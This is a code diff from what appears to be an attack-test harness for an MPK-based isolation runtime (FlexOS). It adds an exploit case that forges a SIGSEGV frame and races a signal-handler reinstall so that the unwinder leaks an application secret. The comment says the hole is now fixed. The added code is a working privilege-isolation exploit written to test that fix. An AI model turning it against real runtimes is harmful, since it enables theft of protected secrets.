@@ -1844,6 +1844,92 @@ static long report_fpregs_adjacent(void)
 	return 0;
 }
 
+/*
+ * report-unwind-handler (an attack review's): a forged fault (the jump
+ * of report-forge-segv) whose frame, in key-0 memory of evil's, has the
+ * unwinder walk 20 frames of evil's stack and then read an unmapped page.
+ * Once backtrace_and_exit has set SIGSEGV to the report's entry and let
+ * it in, evil's second thread sets SIGSEGV to a handler of evil's again
+ * (an action the runtime allows: its delivery stub), so the unwinder's
+ * fault ran evil's handler on the thread holding the report's lock, which
+ * jumped into the report with a "ucontext" over app's secret (printed in
+ * 3 of 6 runs, two CPUs). The delivery stub now runs no handler while a
+ * report is in progress.
+ */
+__asm__(".text\n.globl ul_chain\n.type ul_chain,@function\nul_chain:\n.cfi_startproc\n"
+	"nop\nnop\nnop\nnop\nnop\nnop\nnop\nnop\nret\n.cfi_endproc\n.size ul_chain,.-ul_chain\n");
+extern char ul_chain[];
+static volatile long ul_tries;
+
+static void *ul_installer(void *arg)
+{
+	struct sigaction sa;
+
+	(void)arg;
+	memset(&sa, 0, sizeof(sa));
+	sa.sa_handler = rl_handler;
+	for (;;) {
+		sigaction(SIGSEGV, &sa, NULL);
+		ul_tries++;
+	}
+	return NULL;
+}
+
+static long report_unwind_handler(uintptr_t target)
+{
+	const unsigned char *e = (const unsigned char *)flexos__mpk_segv_entry;
+	const unsigned char kind[] = {0x41, 0xbc, 0x00, 0x00, 0x00, 0x00};
+	const unsigned char pat[] = {0x41, 0x83, 0xfc, 0x0a, 0x74};
+	char *page =
+	    mmap(NULL, 3 * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	pthread_t t;
+	size_t off, off2;
+
+	for (off = 0; off < 64 && memcmp(e + off, kind, sizeof(kind)); off++)
+		;
+	for (off2 = 0; off2 < 1024 && memcmp(e + off2, pat, sizeof(pat)); off2++)
+		;
+	if (off == 64 || off2 == 1024 || page == MAP_FAILED ||
+	    mprotect(page + 2 * 4096, 4096, PROT_NONE))
+		return 0;
+	siginfo_t *si = (siginfo_t *)page, *si2 = (siginfo_t *)(page + 2048);
+	ucontext_t *uc = (ucontext_t *)(page + 4096 - 1024);
+	forge_at = (uintptr_t)e + off;
+	rl_insn = (uintptr_t)e + off2 + 6;
+	/* the second report's "siginfo" and "ucontext" (over app's secret) */
+	si2->si_signo = SIGSYS;
+	si2->si_code = 1;
+	((int *)si2)[6] = SYS_pkey_alloc;
+	rl_si = (uintptr_t)si2;
+	rl_uc = target - (offsetof(ucontext_t, uc_mcontext.gregs) + 8 * REG_RDI);
+	rl_lock = (volatile uint32_t *)flexos__mpk_ro.ro.lock;
+	rl_tid = (int)syscall(SYS_gettid);
+	/* the forged fault: 20 frames of ul_chain below the unmapped page */
+	si->si_signo = SIGSEGV;
+	si->si_code = SEGV_PKUERR;
+	si->si_addr = (void *)target;
+	uintptr_t *w = (uintptr_t *)(page + 2 * 4096) - 20;
+	for (int i = 0; i < 20; i++)
+		w[i] = (uintptr_t)ul_chain + 4;
+	uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)ul_chain + 4;
+	uc->uc_mcontext.gregs[REG_RSP] = (greg_t)(uintptr_t)w;
+	uc->uc_mcontext.fpregs = NULL;
+	if (pthread_create(&t, NULL, ul_installer, NULL))
+		return 0;
+	fprintf(stderr,
+		"report-unwind-handler: a forged fault whose unwinding faults; app's secret at "
+		"%#lx\n",
+		(unsigned long)target);
+	while (ul_tries < 3)
+		;
+	__asm__ volatile("mov %0, %%r14\n\tmov %1, %%r15\n\tmov %2, %%r13\n\t"
+			 "cmp %%r13, %%r13\n\tjmp *forge_at(%%rip)"
+			 :
+			 : "r"(si), "r"(uc), "r"((uintptr_t)SIGSEGV)
+			 : "r13", "r14", "r15", "memory");
+	return 0;
+}
+
 static long setxid(void)
 {
 	pthread_t t;
@@ -2591,6 +2677,8 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		return report_lock_signal(target);
 	case 79:
 		return report_fpregs_adjacent();
+	case 80:
+		return report_unwind_handler(target);
 	case 73: { /* the options the list allows, and one it does not know */
 		unsigned long fs = 0;
 		r = syscall(SYS_arch_prctl, ARCH_GET_FS, &fs);
